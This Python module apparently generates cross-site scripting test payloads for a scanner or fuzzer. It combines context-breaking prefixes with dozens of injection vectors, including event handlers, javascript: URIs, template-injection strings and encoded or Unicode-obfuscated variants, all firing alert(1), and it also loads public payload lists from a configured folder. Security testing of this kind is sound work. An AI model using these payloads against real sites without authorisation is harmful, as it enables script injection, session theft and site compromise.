"""Script-injection payloads: a generator of our own over contexts and vectors, and public lists where a folder of them is named."""

from __future__ import annotations

import os
from itertools import product
from pathlib import Path

COUNT = 750
CALL = "alert(1)"
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</bdi></mark></p>",
    "`>",
    '"/><!--',
    "{{7*7}}",
    "\u2028",
    "\x00>",
)
_VECTORS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<a href=javascript:{} id=go autofocus onfocus={}>go</a>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video src=x onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<form><button formaction=javascript:{} autofocus onfocus={}>x</button></form>",
    "<marquee onstart={}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:/a/-{}//'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>",
    "<style onload={}></style>",
    "<template><script>{}</script></template><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    '" onmouseover="{}" autofocus onfocus="{}" x="',
    "' onfocus='{}' autofocus x='",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<!--><script>{}</script>-->",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<img src='x' onerror='{}' \u202e>",
    "<x contenteditable onfocus={} autofocus tabindex=1>x",
    "<svg><a xlink:href=javascript:{}><text x=20 y=20>x</text></a>",
    "<style>@import 'javascript:{}';</style>",
    "<dialog open onclose={}><form method=dialog><button autofocus>x</button></form></dialog>",
    "[x](javascript:{})",
    "<p style='animation:x' onanimationstart={}>",
    "<img srcset='x 1x' onerror={}>",
    "<input type=image src=x onerror={}>",
    "<isindex action=javascript:{} type=image>",
    "<frameset onload={}>",
    "<script>/*{}*/</script><script>{}//",
    "<keygen autofocus onfocus={}>",
    "<button popovertarget=p>x</button><div id=p popover onbeforetoggle={}>x</div>",
)


def make_payloads() -> list[str]:
    """`COUNT` payloads of our own, each once, then those of lists."""
    own = list(dict.fromkeys(start + vector.format(*[CALL] * vector.count("{}")) for vector, start in product(_VECTORS, _BREAKS)))
    own = own[:: max(1, len(own) // COUNT)][:COUNT] if len(own) > COUNT else own
    return [*own, *_listed()]


def _listed() -> list[str]:
    folder = os.environ.get("ORONTES_PAYLOADS", "")
    found = (
        [line for path in sorted(Path(folder).rglob("*.txt")) for line in path.read_text("utf-8", "replace").splitlines()] if folder else []
    )
    return [line for line in dict.fromkeys(found) if line.strip()][:5000]
